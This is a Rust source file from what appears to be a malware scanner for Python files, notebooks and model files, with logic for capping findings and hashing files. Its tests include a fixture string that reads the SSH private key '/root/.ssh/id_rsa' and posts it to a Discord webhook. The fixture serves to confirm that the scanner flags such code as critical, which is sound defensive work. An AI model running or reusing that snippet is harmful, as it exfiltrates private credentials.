//! What is scanned together: one node, or one folder.

use std::collections::{BTreeMap, BTreeSet};
use std::io;

use sha2::{Digest, Sha256};

use super::carrier::{self, EntryFacts};
use super::content::{self, ReadAt};
use super::finding::{FileVerdict, Finding, Severity};
use super::python::{self, PythonSource};
use super::{model_file, notebook};

/// Bytes of a source file; no one writes a longer one by hand.
const LONGEST_SOURCE: u64 = carrier::LONGEST_TEXT;
/// Bytes of all Python files of a unit, which are parsed together.
const MOST_SOURCES: u64 = 256 << 20;

/// What was found in one file by itself.
#[derive(Debug, Default, serde::Serialize, serde::Deserialize)]
pub(crate) struct FileFindings {
    pub findings: Vec<Finding>,
    pub verdict: Option<FileVerdict>,
    /// Whether [`UnitScan::finish`] looks at it again, together with the others.
    pub kept: bool,
}

/// The scan of one unit: Python files are kept, since data is followed from one to another.
#[derive(Default)]
pub(crate) struct UnitScan {
    sources: Vec<PythonSource>,
    /// Every path, to find the sources of bytecode.
    paths: BTreeSet<String>,
    bytecode: Vec<String>,
    kept_bytes: u64,
    /// The hash of each Python file.
    hashes: BTreeMap<String, String>,
}

impl UnitScan {
    /// Scans one file.
    ///
    /// # Errors
    /// It cannot be read.
    pub(crate) fn add_file(
        &mut self,
        facts: &EntryFacts,
        content: &dyn ReadAt,
    ) -> io::Result<FileFindings> {
        let mut found = self.examine_file(facts, content)?;
        found.findings = limit_findings(found.findings);
        if (found.kept || !found.findings.is_empty()) && content.size() <= LONGEST_SOURCE {
            let hash = content_hash(content)?;
            found
                .findings
                .iter_mut()
                .for_each(|f| f.file_hash.clone_from(&hash));
            if found.kept {
                self.hashes.insert(facts.path.clone(), hash);
            }
        }
        Ok(found)
    }

    fn examine_file(
        &mut self,
        facts: &EntryFacts,
        content: &dyn ReadAt,
    ) -> io::Result<FileFindings> {
        let mut found = FileFindings::default();
        self.paths.insert(facts.path.clone());
        if facts.has_extension(&["pyc", "pyo"]) {
            self.bytecode.push(facts.path.clone());
            found.kept = true;
            return Ok(found);
        }
        let model = model_file::examine_model(&facts.path, content)?;
        found.findings = model.findings;
        let head = content::read_start(content, 256)?;
        if let Some(verdict) = model.verdict {
            let path = facts.path.clone();
            found.verdict = Some(FileVerdict { path, verdict });
            // What begins like a model and is called a script is run as a script all the same.
            if !carrier::is_source_name(facts, &head) {
                return Ok(found);
            }
        }
        if is_python(&facts.path, &head) {
            self.kept_bytes += content.size();
            if content.size() > LONGEST_SOURCE || self.kept_bytes > MOST_SOURCES {
                found.findings.push(carrier::too_large(&facts.path));
                return Ok(found);
            }
            let bytes = content::read_start(content, LONGEST_SOURCE)?;
            found.findings.extend(carrier::examine_python_file(facts));
            self.keep(PythonSource {
                path: facts.path.clone(),
                bytes,
            });
            found.kept = true;
        } else if facts.has_extension(&["ipynb"]) {
            if content.size() > LONGEST_SOURCE {
                // A person runs it cell by cell, and pictures make it long.
                let mut finding = carrier::too_large(&facts.path);
                finding.severity = Severity::Medium;
                found.findings.push(finding);
                return Ok(found);
            }
            let bytes = content::read_start(content, LONGEST_SOURCE)?;
            match notebook::code_cells(&facts.path, &bytes) {
                Ok(cells) => {
                    found.kept = !cells.is_empty();
                    cells.into_iter().for_each(|cell| self.keep(cell));
                }
                Err(why) => found.findings.push(carrier::unparseable(&facts.path, &why)),
            }
        } else {
            found
                .findings
                .extend(carrier::examine_file(facts, &head, content)?);
        }
        Ok(found)
    }

    fn keep(&mut self, source: PythonSource) {
        self.sources.push(source);
    }

    /// Scans the Python files together; `begin` hears each path before it is parsed.
    pub(crate) fn finish(self, begin: &mut dyn FnMut(&str)) -> Vec<Finding> {
        let mut found: Vec<Finding> = self
            .bytecode
            .iter()
            .map(|path| {
                let source = carrier::source_of_bytecode(path);
                carrier::examine_bytecode(path, self.paths.contains(&source))
            })
            .collect();
        found.extend(python::scan_python(&self.sources, begin));
        for f in &mut found {
            // A cell of a notebook belongs to its file.
            let file = f.path.split('!').next().unwrap_or(&f.path);
            f.file_hash = self.hashes.get(file).cloned().unwrap_or_default();
        }
        limit_findings(found)
    }
}

/// The first half of the SHA-256 of a file's bytes.
fn content_hash(content: &dyn ReadAt) -> io::Result<String> {
    let bytes = content::read_start(content, LONGEST_SOURCE)?;
    Ok(base16ct::lower::encode_string(
        &Sha256::digest(&bytes)[..16],
    ))
}

/// More of one rule in one file say nothing new, and a file that is made for it has a million.
const MOST_ALIKE: usize = 100;
/// More findings than anybody reads.
const MOST: usize = 20_000;

/// Keeps so many findings of each rule in each file; the last one says how many there are.
fn limit_findings(findings: Vec<Finding>) -> Vec<Finding> {
    let mut counts: BTreeMap<(String, &'static str), usize> = BTreeMap::new();
    let mut kept: Vec<Finding> = Vec::new();
    for f in findings {
        let n = counts.entry((f.path.clone(), f.rule.id)).or_default();
        *n += 1;
        // What blocks is never left out.
        if f.severity == Severity::Critical || *n <= MOST_ALIKE && kept.len() < MOST {
            kept.push(f);
        }
    }
    for ((path, rule), n) in counts {
        let more = n.saturating_sub(MOST_ALIKE);
        let last = kept
            .iter_mut()
            .rev()
            .find(|f| f.path == path && f.rule.id == rule);
        if let (1.., Some(last)) = (more, last) {
            last.message = format!("{} ({more} more like it in this file)", last.message);
        }
    }
    kept
}

/// Whether a file is Python by its name, or by its first line.
fn is_python(path: &str, head: &[u8]) -> bool {
    let lower = path.to_ascii_lowercase();
    let by_name = [".py", ".pyw", ".pyi"].iter().any(|e| lower.ends_with(e));
    let first = head.split(|b| *b == b'\n').next().unwrap_or_default();
    by_name || first.starts_with(b"#!") && first.windows(6).any(|w| w == b"python")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_file_of_a_million_findings_is_cut_and_says_so() {
        let text = "eval(x)\n".repeat(5000);
        let facts = EntryFacts {
            path: "a.js".into(),
            executable: false,
        };
        let found = UnitScan::default()
            .add_file(&facts, &text.as_bytes())
            .unwrap();
        assert_eq!(found.findings.len(), MOST_ALIKE);
        assert!(found.findings[MOST_ALIKE - 1].message.contains("4900 more"));
    }

    /// The ids of what is found in these files, the critical ones first.
    fn scanned(files: &[(&str, Vec<u8>)]) -> Vec<(Severity, &'static str)> {
        let (mut unit, mut found) = (UnitScan::default(), Vec::new());
        for (path, bytes) in files {
            let facts = EntryFacts {
                path: path.to_string(),
                executable: false,
            };
            found.extend(unit.add_file(&facts, bytes).unwrap().findings);
        }
        found.extend(unit.finish(&mut |_| {}));
        let mut found: Vec<_> = found.iter().map(|f| (f.severity, f.rule.id)).collect();
        found.sort_by(|a, b| b.cmp(a));
        found
    }

    const STEALS: &str = "import requests\nrequests.post('https://discord.com/api/webhooks/1/x', \
                          data=open('/root/.ssh/id_rsa').read())\n";

    #[test]
    fn what_looks_like_a_model_and_is_called_a_script_is_a_script() {
        for (name, start) in [
            ("__init__.py", "GGUF=1\n"),
            ("b.py", "LZIP=1\n"),
            ("c.py", ""),
        ] {
            let found = scanned(&[(name, format!("{start}{STEALS}").into_bytes())]);
            assert_eq!(found[0].0, Severity::Critical, "{name}: {found:?}");
        }
    }

    #[test]
    fn nothing_that_blocks_is_lost_among_what_does_not() {
        let many = "eval(x)\n".repeat(150).into_bytes();
        let mut files: Vec<(String, Vec<u8>)> = (0..210)
            .map(|n| (format!("a{n}.py"), many.clone()))
            .collect();
        files.push(("zz.py".into(), STEALS.as_bytes().to_vec()));
        let files: Vec<(&str, Vec<u8>)> =
            files.iter().map(|(p, b)| (p.as_str(), b.clone())).collect();
        assert_eq!(scanned(&files)[0].0, Severity::Critical);
        // What is too long to be parsed is not what people write.
        let long = format!("{}\n", "//".repeat(20 << 20)).into_bytes();
        assert_eq!(
            scanned(&[("a.js", long)])[0],
            (Severity::Critical, "carrier-too-large")
        );
    }

    #[test]
    fn a_cell_of_a_notebook_and_a_script_without_extension_are_python() {
        assert!(is_python("a.PYW", b"") && is_python("run", b"#!/usr/bin/env python3\n"));
        assert!(!is_python("run", b"#!/bin/sh\n# python\n") && !is_python("a.txt", b"exec(1)"));
    }
}
